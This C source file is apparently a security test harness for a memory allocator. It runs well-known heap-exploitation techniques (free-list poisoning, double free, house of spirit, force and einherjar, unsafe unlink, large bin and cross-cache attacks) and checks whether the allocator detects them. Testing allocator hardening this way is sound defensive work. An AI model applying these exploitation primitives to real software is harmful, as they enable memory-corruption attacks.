/* A published way to use a bug in the heap: techniques NAME [valid]; without arguments, the names.
 *
 * Each has the bug that it needs, the exact addresses that an attacker would have to learn first, and a goal. Status 0
 * after the line "harm": the goal was reached, and nobody noticed. A signal after that line: noticed late. GONE, or a
 * signal before: the technique was stopped. With "valid" it does the same without the bug. scripts/security runs all.
 * The techniques are those of the collection how2heap, and of papers on allocators with slabs. */
#include "properties.h"

enum { TRIES = 200, SPRAYED = 4096, SMALL = 64, OTHER = 1000 };

static uintptr_t target[64] __attribute__((aligned(64)));
static char *shown; /* a pointer at a known address, as unlink needs it */

static void corrupt(void *at, uintptr_t word) {
  if (!valid) {
    *(volatile uintptr_t *)at = word;
  }
}

static void give_wrongly(void *block) {
  if (!valid) {
    give(block);
  }
}

static uintptr_t *words(char *block) {
  return (uintptr_t *)(void *)block;
}

static bool is_target(const char *block) {
  return (uintptr_t)block - (uintptr_t)target < sizeof target;
}

static bool reaches_target(size_t bytes) {
  for (int i = 0; i < TRIES; i++) {
    if (is_target(hidden(malloc(bytes)))) {
      return true;
    }
  }
  return false;
}

static bool is_handed_out_twice(size_t bytes) {
  static char *seen[TRIES];
  for (int i = 0; i < TRIES; i++) {
    seen[i] = hidden(malloc(bytes));
    for (int k = 0; k < i; k++) {
      if (seen[k] == seen[i]) {
        return true;
      }
    }
  }
  return false;
}

/* A freed block's link leads to memory of the attacker's choice. */
static bool poison(uintptr_t mask_shift) {
  char *one = take(SMALL), *two = take(SMALL);
  give(one);
  give(two);
  uintptr_t mask = mask_shift ? (uintptr_t)two >> mask_shift : 0;
  corrupt(two, (uintptr_t)target ^ mask);
  return reaches_target(SMALL);
}
static bool list_poisoning_plain(void) {
  return poison(0);
}
static bool list_poisoning_masked(void) { /* glibc's masked links, by an attacker who knows the heap's address */
  return poison(12);
}

static bool duplicate_in_turn(void) {
  char *fill[8], *one = take(SMALL), *two = take(SMALL);
  for (int i = 0; i < 8; i++) {
    fill[i] = take(SMALL);
  }
  for (int i = 0; i < 8; i++) {
    give(fill[i]);
  }
  give(one);
  give(two);
  give_wrongly(one);
  return is_handed_out_twice(SMALL);
}

/* The mark of a free block is overwritten before it is freed again. */
static bool duplicate_with_mark_erased(void) {
  char *one = take(SMALL);
  give(one);
  for (int i = 0; i < 2; i++) {
    corrupt(one + 8 * i, 0);
  }
  give_wrongly(one);
  return is_handed_out_twice(SMALL);
}

static bool house_of_spirit(void) {
  target[1] = 0x51;
  target[11] = 0x1001;
  give_wrongly(&target[2]);
  return reaches_target(0x40);
}

static bool house_of_force(void) {
  char *last = take(0x18);
  corrupt(last + 0x18, UINTPTR_MAX);
  size_t distance = (uintptr_t)target - (uintptr_t)last - 0x40;
  char *far = valid ? NULL : hidden(malloc(distance));
  return far && reaches_target(0x18);
}

static bool unsafe_unlink(void) {
  char *second;
  shown = take(0x420);
  second = take(0x428);
  uintptr_t *fake = words(shown);
  fake[1] = 0x420;
  fake[2] = (uintptr_t)&shown - 0x18;
  fake[3] = (uintptr_t)&shown - 0x10;
  fake[4] = fake[5] = 0;
  char *before = shown;
  corrupt(second - 0x10, 0x420);
  corrupt(second - 8, 0x430);
  give(second);
  return shown != before;
}

static bool overlaps(const char *block, size_t bytes, const char *live) {
  return (uintptr_t)live - (uintptr_t)block < bytes;
}

static bool house_of_einherjar(void) {
  char *fill[7], *first = take(0x38), *second = take(0x28), *third = take(0xf8);
  uintptr_t *fake = words(first);
  fake[0] = 0;
  fake[1] = 0x60;
  fake[2] = fake[3] = (uintptr_t)first;
  for (int i = 0; i < 7; i++) {
    fill[i] = take(0xf8);
  }
  for (int i = 0; i < 7; i++) {
    give(fill[i]);
  }
  corrupt(second + 0x20, 0x60);
  if (!valid) {
    *(volatile char *)(second + 0x28) = 0;
  }
  give(third);
  return overlaps(hidden(malloc(0x158)), 0x158, second);
}

static bool overlapping_blocks(void) {
  char *first = take(0x4f8), *second = take(0x4f8), *third = take(0x78);
  corrupt(first + 0x4f8, 0x500 + 0x80 + 1);
  give(second);
  return overlaps(hidden(malloc(0x570)), 0x570, third);
}

static bool large_bin_attack(void) {
  char *one = take(0x428), *gap = take(0x18), *two = take(0x418);
  gap = take(0x18);
  give(one);
  char *larger = take(0x438);
  give(two);
  corrupt(one + 0x18, (uintptr_t)&target[32] - 0x20);
  char *again = take(0x438);
  give(gap);
  give(larger);
  give(again);
  return target[32] != 0;
}

/* A stale pointer to an object of one size lies in a live object of another. */
static bool cross_cache(void) {
  static char *first[SPRAYED], *second[SPRAYED];
  for (int i = 0; i < SPRAYED; i++) {
    first[i] = take(SMALL);
  }
  for (int i = 0; i < SPRAYED; i++) {
    give(first[i]);
  }
  malloc_trim(0);
  bool reached = false;
  for (int i = 0; i < SPRAYED && !valid; i++) {
    second[i] = take(OTHER);
    for (int k = 0; k < SPRAYED; k += 16) {
      reached |= overlaps(second[i], OTHER, first[k]);
    }
  }
  return reached;
}

/* The next object of the size takes the place of a freed one. */
static bool reclaim(void) {
  char *stale = take(SMALL);
  give(stale);
  for (int i = 0; i < 8; i++) {
    if (hidden(malloc(SMALL)) == stale) {
      return !valid;
    }
  }
  return false;
}

/* Overwrite the object behind, then free both, as the program would. */
static bool adjacent_overflow(void) {
  static char *objects[SPRAYED];
  for (int i = 0; i < SPRAYED; i++) {
    objects[i] = take(SMALL);
  }
  for (int i = 0; i < SPRAYED; i++) {
    size_t apart = i > 0 ? (size_t)(objects[i] > objects[i - 1] ? objects[i] - objects[i - 1] : 0) : 0;
    if (apart > 0 && apart <= 2 * SMALL && !valid) {
      for (size_t k = SMALL; k < apart + 8; k++) {
        *(volatile char *)(objects[i - 1] + k) = 0x41;
      }
      happened();
      give(objects[i - 1]);
      give(objects[i]);
      return true;
    }
  }
  return false;
}

/* Whether what lies behind one block, which the attacker has read, helps to repair what he overwrites behind another.
 */
static bool forge(bool by_address) {
  char *known = take(SMALL - 8), *victim = take(SMALL - 8);
  for (size_t k = SMALL - 8; k < SMALL + 8; k += 8) {
    uintptr_t read = *words(known + k);
    corrupt(victim + k, by_address ? read ^ (uintptr_t)known ^ (uintptr_t)victim : read);
  }
  give(victim);
  give(known);
  return !valid;
}
static bool forged_plain(void) {
  return forge(false);
}
static bool forged_by_address(void) {
  return forge(true);
}

static const struct {
  const char *name;
  bool (*attack)(void);
} techniques[] = {
    {"free_list_poisoning/plain", list_poisoning_plain},
    {"free_list_poisoning/masked", list_poisoning_masked},
    {"double_free/in_turn", duplicate_in_turn},
    {"double_free_with_mark_erased/one", duplicate_with_mark_erased},
    {"house_of_spirit/one", house_of_spirit},
    {"house_of_force/one", house_of_force},
    {"unsafe_unlink/one", unsafe_unlink},
    {"house_of_einherjar/one", house_of_einherjar},
    {"overlapping_blocks/one", overlapping_blocks},
    {"large_bin_attack/one", large_bin_attack},
    {"cross_cache/one", cross_cache},
    {"reclaim_after_free/one", reclaim},
    {"adjacent_overflow/one", adjacent_overflow},
    {"forged_end/plain", forged_plain},
    {"forged_end/by_address", forged_by_address},
};

int main(int count, char **arguments) {
  valid = count == 3 && strcmp(arguments[2], "valid") == 0;
  for (size_t i = 0; i < sizeof techniques / sizeof *techniques; i++) {
    if (count < 2) {
      puts(techniques[i].name);
    } else if (strcmp(arguments[1], techniques[i].name) == 0) {
      bool reached = techniques[i].attack();
      if (reached && !valid) {
        happened();
      }
      return reached || valid ? 0 : GONE;
    }
  }
  return count < 2 ? 0 : 2;
}
